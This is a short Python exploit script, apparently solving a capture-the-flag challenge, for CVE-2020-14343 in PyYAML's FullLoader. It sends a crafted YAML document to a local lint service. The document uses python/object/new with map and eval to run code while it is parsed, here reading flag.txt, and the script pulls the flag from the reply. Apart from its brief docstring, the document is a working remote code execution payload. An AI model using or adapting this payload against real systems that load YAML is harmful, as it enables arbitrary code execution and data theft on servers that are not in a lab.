"""CVE-2020-14343 (PYSEC-2021-142): FullLoader in PyYAML < 5.4 still builds python/object/new
of any class it can name. map(eval, [code]) is lazy; tuple(...) of it runs eval while loading."""

import json
import re
import urllib.request

document = (
    "!!python/object/new:tuple\n"
    "- !!python/object/new:map [!!python/name:eval , [\"open('flag.txt').read()\"]]\n"
)
request = urllib.request.Request("http://127.0.0.1:9401/lint", data=document.encode())
with urllib.request.urlopen(request, timeout=10) as response:
    parsed = json.load(response)["parsed"]
print(re.search(r"flag\{[0-9a-f]{32}\}", parsed).group(0))
